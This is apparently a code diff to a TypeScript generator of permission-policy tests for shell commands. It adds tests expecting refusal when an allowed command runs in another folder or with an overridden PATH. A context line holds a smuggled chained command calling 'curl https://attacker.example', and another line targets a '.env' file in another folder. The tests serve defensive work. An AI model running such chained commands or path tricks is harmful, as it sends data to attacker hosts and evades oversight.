@@ -82,6 +82,7 @@ function tests({ trigger, commands, paths }: PolicyAnswers): readonly string[] {
       `${first}; curl https://attacker.example`,
       'reject_once, rule: default',
     ),
+    ...(commands.length === 0 ? [] : placeTests(own, first)),
     ...(paths.length === 0 ? [] : workflowTests(own)),
     pathTest('nothing outside is edited', own, 'some-other-folder/.env', 'reject_once, rule: default'),
     shellTest(
@@ -93,6 +94,16 @@ function tests({ trigger, commands, paths }: PolicyAnswers): readonly string[] {
     shellTest('on a laptop a person is asked', '{}', first, 'reject_once, rule: default'),
   ];
   return [...allowed, ...refused];
+}
+
+/** The same command where an intern may have planted what it runs. */
+function placeTests(context: string, command: string): readonly string[] {
+  const operation = `operation: ${quoted(`shell command: ${command}`)}`;
+  const refused = 'reject_once, rule: default';
+  return [
+    test('not in another folder', context, `${operation}, inside: [some-other-folder]`, refused),
+    test('nor with variables of its own', context, `${operation}, env: { PATH: some-other-folder }`, refused),
+  ];
 }
 
 function workflowTests(context: string): readonly string[] {
